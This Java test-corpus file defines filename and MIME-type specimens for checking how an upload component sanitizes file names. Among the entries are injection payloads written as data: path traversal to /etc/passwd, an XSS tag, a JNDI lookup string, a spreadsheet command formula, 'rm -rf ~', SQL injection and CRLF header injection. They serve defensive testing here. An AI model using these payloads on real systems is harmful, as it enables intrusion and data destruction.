// SPDX-License-Identifier: Apache-2.0
package org.slipway.file.internal.corpus;

import java.util.List;
import org.slipway.file.internal.TestFiles;

/** Good files with bad names and types that contradict each other: the content decides, and the name that is shown fits it. */
final class Names {

    private Names() {}

    static List<Specimen> ofPhotos() {
        return List.of(
                name("path", "../../../etc/passwd.jpg", "JPEG passwd.jpg"),
                name("path of Windows", "C:\\fakepath\\slip.jpg", "JPEG slip.jpg"),
                name("mixed path", "..\\/..\\/slip.jpg", "JPEG slip.jpg"),
                name("encoded path", "..%2f..%2fslip.jpg", "JPEG ..%2f..%2fslip.jpg".replace("..%2f..", "%2f..")),
                name("share of a server", "\\\\192.0.2.1\\share\\slip.jpg", "JPEG slip.jpg"),
                name("nothing", "", "JPEG attachment.jpg"),
                name("a slash", "/", "JPEG attachment.jpg"),
                name("a dot", ".", "JPEG attachment.jpg"),
                name("two dots", "..", "JPEG attachment.jpg"),
                name("only an ending", ".jpg", "JPEG attachment.jpg"),
                name("hidden file", ".slip.jpg", "JPEG slip.jpg"),
                name("file of a web server", ".htaccess", "JPEG htaccess.jpg"),
                name("blank at the end", "slip.jpg ", "JPEG slip.jpg"),
                name("dot at the end", "slip.jpg.", "JPEG slip.jpg.jpg"),
                name("stream of NTFS", "slip.jpg::$DATA", "JPEG slip.jpg"),
                name("device of Windows", "CON.jpg", "JPEG CON.jpg"),
                name("zero in the name", "slip.php\0.jpg", "JPEG slip.php.jpg"),
                name("zero before the real ending", "slip.jpg\0.php", "JPEG slip.jpg.php.jpg"),
                name("line ends", "slip\r\nX-Evil: 1\r\n.jpg", "JPEG slipX-Evil 1.jpg"),
                name("escape sequence", "\u001b[31mslip\u001b[0m.jpg", "JPEG [31mslip[0m.jpg"),
                name("turned direction", "slip\u202egpj.exe", "JPEG slipgpj.exe.jpg"),
                name("turned direction with a good end", "slip\u202eexe.jpg", "JPEG slipexe.jpg"),
                name("invisible characters", "sl\u200bi\u2060p.j\ufeffpg", "JPEG slip.jpg"),
                name("half of a pair", "slip\ud83d.jpg", "JPEG slip.jpg"),
                name("private characters", "slip\ue000\udbff\udfff.jpg", "JPEG slip.jpg"),
                name("separators of lines", "sl\u2028i\u2029p.jpg", "JPEG slip.jpg"));
    }

    static List<Specimen> ofForeigners() {
        return List.of(
                name("markup", "<img src=x onerror=alert(1)>.jpg", "JPEG img src=x onerror=alert(1).jpg"),
                name("quotes", "a\"b'c`d.jpg", "JPEG ab'c`d.jpg"),
                name("template", "${jndi:ldap://192.0.2.1/a}.jpg", "JPEG a}.jpg"),
                name("expression", "{{7*7}}#{7*7}.jpg", "JPEG {{77}}#{77}.jpg"),
                name("formula", "=cmd|'c calc'!A1.jpg", "JPEG =cmd'c calc'!A1.jpg"),
                name("command", "; rm -rf ~;.jpg", "JPEG ; rm -rf ~;.jpg"),
                name("query", "'; drop table slip; --.jpg", "JPEG '; drop table slip; --.jpg"),
                name("Filipino", "ba\u00f1os \u2013 resibo.jpg", "JPEG ba\u00f1os \u2013 resibo.jpg"),
                name("Arabic", "\u0625\u064a\u0635\u0627\u0644.jpg", "JPEG \u0625\u064a\u0635\u0627\u0644.jpg"),
                name("Chinese", "\u6c34\u5355.jpg", "JPEG \u6c34\u5355.jpg"),
                name("emoji", "\ud83d\udcb8.jpg", "JPEG \ud83d\udcb8.jpg"),
                name("overlong", "a".repeat(70_000) + ".jpg", "JPEG " + "a".repeat(116) + ".jpg"),
                name(
                        "overlong in pairs",
                        "\ud83d\udcb8".repeat(99) + ".jpg",
                        "JPEG " + "\ud83d\udcb8".repeat(58) + ".jpg"),
                name("heap of accents", "a" + "\u0301".repeat(500) + ".jpg", "JPEG a" + "\u0301".repeat(4) + ".jpg"),
                name("only dots", ".".repeat(300) + "jpg", "JPEG attachment.jpg"),
                name("ending without end", "slip." + "j".repeat(5000), "JPEG slip." + "j".repeat(111) + ".jpg"));
    }

    static List<Specimen> endings() {
        return List.of(
                file("no ending", "slip", "", "JPEG slip.jpg"),
                file("ending in capitals", "SLIP.JPG", "image/jpeg", "JPEG SLIP.jpg"),
                file("other ending of a JPEG", "slip.jpe", "image/pjpeg", "JPEG slip.jpe"),
                file("PNG's ending", "slip.png", "", "JPEG slip.jpg"),
                file("PDF's ending", "slip.pdf", "", "JPEG slip.jpg"),
                file("ending of a script", "slip.php", "image/jpeg", "JPEG slip.php.jpg"),
                file("ending of a script behind ours", "slip.jpg.phtml", "image/jpeg", "JPEG slip.jpg.phtml.jpg"),
                file("ending of a page", "slip.html", "image/jpeg", "JPEG slip.html.jpg"),
                file("ending of a script before ours", "slip.exe.jpg", "image/jpeg", "JPEG slip.exe.jpg"),
                file("ending in wide letters", "slip.\uff4a\uff50\uff47", "", "JPEG slip.\uff4a\uff50\uff47.jpg"),
                file("ending in Cyrillic", "slip.j\u0440g", "", "JPEG slip.j\u0440g.jpg"),
                file("ending of a messenger", "photo.jpg_large", "", "JPEG photo.jpg"),
                file("ending of two pictures in one", "IMG_0001.mpo", "image/mpo", "JPEG IMG_0001.jpg"),
                file("two endings", "receipt.pdf.jpg", "application/pdf", "JPEG receipt.pdf.jpg"),
                file("declared as a page", "slip.jpg", "text/html", "JPEG slip.jpg"),
                file("declared as a PNG", "slip.jpg", "image/png", "JPEG slip.jpg"),
                file("declared as a drawing", "slip.jpg", "image/svg+xml", "JPEG slip.jpg"),
                file("declared with a parameter", "slip.jpg", "image/jpeg; charset=utf-7", "JPEG slip.jpg"),
                file("declared in capitals", "slip.jpg", "IMAGE/JPEG", "JPEG slip.jpg"),
                file("declared twice", "slip.jpg", "image/jpeg, text/html", "JPEG slip.jpg"),
                file("declared as anything", "slip.jpg", "*/*", "JPEG slip.jpg"),
                Specimen.png("JPEG by the name of a PNG", Jpegs::plain, "JPEG slip.jpg"),
                Specimen.jpeg("PNG by the name of a JPEG", Pngs::with, "PNG slip.png"),
                Specimen.jpeg("PDF by the name of a JPEG", () -> TestFiles.pdf(1), "PDF slip.pdf"),
                Specimen.pdf("JPEG by the name of a PDF", Jpegs::plain, "JPEG slip.jpg"));
    }

    private static Specimen name(String title, String name, String answer) {
        return file("name: " + title, name, "image/jpeg", answer);
    }

    private static Specimen file(String title, String name, String declared, String answer) {
        return new Specimen(title, name, declared, Jpegs::plain, answer);
    }
}
